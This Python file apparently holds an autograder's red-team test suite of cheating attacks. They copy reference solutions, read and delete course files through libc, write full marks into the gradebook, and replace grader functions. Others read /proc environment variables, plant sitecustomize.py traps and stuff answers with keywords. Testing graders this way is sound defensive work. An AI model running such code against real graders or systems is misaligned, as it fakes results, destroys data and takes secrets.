"""Attacks that look for what is not theirs: solutions, others' work, the gradebook, the judge's objects and texts."""

from __future__ import annotations

from attack import NOTHING, WRITTEN, Attack, code

TELL = """
def tell(found):
    if CANARY in str(found):
        raise RuntimeError("found: " + CANARY)
"""

ATTACKS: list[Attack] = [
    code(
        "solutions copied",
        "answers are copied from the reference solution that lies on the instructor's disk",
        TELL
        + """
import glob, json, os
hazard_1 = hazard_2 = ""
for place in (COURSE, "..", "../..", "../../..", os.path.expanduser("~")):
    for path in glob.glob(f"{place}/solutions/**/*.ipynb", recursive=True) + [f"{place}/solutions/level2/level2.ipynb"]:
        try:
            cells = json.load(open(path, encoding="utf-8"))["cells"]
        except (OSError, ValueError):
            continue
        for cell in cells:
            if cell["id"] in ("level2-hazards", "level2-code"):
                exec("".join(cell["source"]), globals())
""",
        flag="names solutions/",
    ),
    code(
        "real solutions read",
        "the same past the fake disk, with the C library",
        TELL
        + """
import ctypes
libc = ctypes.CDLL(None)
for name in ("solutions/level2/level2.ipynb", "classroom/submitted/a-honest/level2/level2.ipynb",
             "classroom/gradebook.db", "classroom/autograded/a-honest/level2/level2.ipynb"):
    fd = libc.open(f"{COURSE}/{name}".encode(), 0)
    if fd >= 0:
        data = ctypes.create_string_buffer(1_000_000)
        libc.read(fd, data, 1_000_000)
        tell(data.raw.decode("utf-8", "replace"))
        exec("hazard_1 = 'read'")
""",
        flag="imports ctypes",
    ),
    code(
        "the gradebook written",
        "full marks straight into the database",
        TELL
        + """
import _sqlite3 as sqlite3
for name in ("classroom/gradebook.db", "gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{COURSE}/{name}?mode=rw", uri=True)
        tell(list(book.execute("select * from student")))
        book.execute("update grade set manual_score = 4.0, needs_manual_grade = 0")
        book.commit()
    except Exception: pass
""",
        flag="names gradebook",
    ),
    code(
        "the gradebook written in C",
        "the same with the C library, and everything else in the course overwritten",
        """
import ctypes
libc = ctypes.CDLL(None)
for name in ("classroom/gradebook.db", "classroom/submitted/z-honest/level2/level2.ipynb", "nbgrader_config.py",
             "solutions/level2/level2.ipynb", "classroom/autograded/a-honest/level2/level2.ipynb"):
    path = f"{COURSE}/{name}".encode()
    fd = libc.open(path, 0o1002)
    if fd >= 0: libc.write(fd, LEFT.encode(), len(LEFT))
    libc.unlink(path)
""",
        flag="imports ctypes",
    ),
    code(
        "the key of the rubric",
        "points to make and criteria, read where the grader is installed, as answers",
        """
import glob, os, sys
text = ""
for folder in [p for p in sys.path if p] + [os.path.dirname(os.path.dirname(sys.modules["types"].__file__))]:
    for name in ("grader/criteria.toml", "grader/answers/rubric/points.toml", "grader/answers/rubric/phrases.toml"):
        try: text += open(os.path.join(folder, name), encoding="utf-8").read()
        except OSError: pass
hazard_1, hazard_2 = text[:20000], text[20000:40000]
""",
        flag="names criteria.toml",
    ),
    code(
        "the judge's own modules",
        "modules that decide, imported from the answer",
        """
hazard_1 = hazard_2 = ""
for name in ("grader.answers.exercises.level2", "grader.answers.rubric.reading", "grader.levels.level2.judge",
             "grader.criteria", "grader.levels.level1_scenes", "grader.classroom.judging"):
    try:
        hazard_1 += str(vars(__import__(name, fromlist=["x"])))
    except Exception: pass
hazard_2 = hazard_1[:9000]
""",
        flag="uses __import__",
    ),
    code(
        "frames and linecache",
        "the test's text and its variables, read from the frames that call",
        """
import gc, inspect, linecache, sys
hazard_1, hazard_2 = "", ""
frame = sys._getframe()
while frame is not None:
    hazard_1 += "".join(linecache.getlines(frame.f_code.co_filename))[:3000] + str(list(frame.f_locals))
    frame = frame.f_back
for value in linecache.cache.values():
    hazard_2 += str(value)[:2000]
""",
        waits=WRITTEN,
        flag="uses _getframe",
    ),
    code(
        "texts in memory",
        "every text in memory that speaks of the hazards, as an answer",
        """
import gc
texts = {t for o in gc.get_objects() if isinstance(o, dict) for t in list(o.values())
         if type(t) is str and "checkpoint.json" in t and len(t) < 4000}
hazard_1 = " ".join(sorted(texts))[:20000]
hazard_2 = " ".join(sorted(texts, reverse=True))[:20000]
""",
        waits=WRITTEN,
        flag="uses get_objects",
    ),
    code(
        "the drivers' functions",
        "the driver's and the recorder's functions are replaced where they are found in memory",
        """
import gc, types
def yes(*a, **k): return None
for one in gc.get_objects():
    if isinstance(one, types.ModuleType) and one.__name__.startswith("grader"):
        for name, value in list(vars(one).items()):
            if isinstance(value, types.FunctionType): setattr(one, name, yes)
    elif isinstance(one, types.FunctionType) and "_drive" in one.__code__.co_filename:
        one.__code__ = yes.__code__
    elif isinstance(one, type) and one.__name__ in ("Run", "Play", "Disk", "Outcome", "Failure"):
        for name in ("deliver", "finish", "recording", "mark"):
            if hasattr(one, name): setattr(one, name, yes)
""",
        flag="uses get_objects",
    ),
    code(
        "processes looked at",
        "command lines, variables and memory of every process in sight",
        TELL
        + """
import ctypes
libc = ctypes.CDLL(None)
for pid in [*range(1, 400), "self"]:
    for name in ("cmdline", "environ", "cwd/solutions", "root" + COURSE + "/classroom/gradebook.db"):
        fd = libc.open(f"/proc/{pid}/{name}".encode(), 0)
        if fd >= 0:
            data = ctypes.create_string_buffer(200_000)
            libc.read(fd, data, 200_000)
            libc.close(fd)
            tell(data.raw.decode("utf-8", "replace"))
""",
        flag="names /proc/",
    ),
    code(
        "the next one's run",
        "traps for whoever is judged next: modules, variables, files, settings",
        """
import builtins, json, os, sys, types
builtins.next_one = sys.modules["next_one"] = types.ModuleType("next_one")
json.dump = lambda *a, **k: None
os.environ["PYTHONSTARTUP"] = os.environ["CRASH_COURSE_SEED"] = "x"
sys.path.insert(0, "/tmp")
sys.setrecursionlimit(50)
for name in ("json.py", "os.py", "sitecustomize.py", "conftest.py"):
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
        try: open(os.path.join(folder, name), "w").write("raise SystemExit(0)")
        except OSError: pass
""",
        flag="replaces json.dump",
    ),
    code(
        "the key of level 1",
        "predictions worked out with the grader's own reference agent",
        """
from grader import Loss
missing = {}
try:
    from grader.levels import level1, level1_scenes
    for name in level1_scenes.FIELDS:
        missing[name] = Loss(consequence=level1_scenes.CONSEQUENCES[0], prediction=level1_scenes.scene(name), why="x")
except ImportError as error:
    print(error)
""",
        where="level1-answer",
        level="level1",
        earns=NOTHING,
        flag="imports grader.levels",
    ),
    code(
        "keywords",
        "a heap of every word that a good answer could hold",
        """
words = ("overwrite truncate torn half empty crash kill power checkpoint.json old new rename atomic temp fsync point A "
         "pendingToolUse twice again mail sent lost resume tool runs before after save in place ")
hazard_1, hazard_2 = words * 20, words * 19
""",
        waits=WRITTEN,
    ),
]
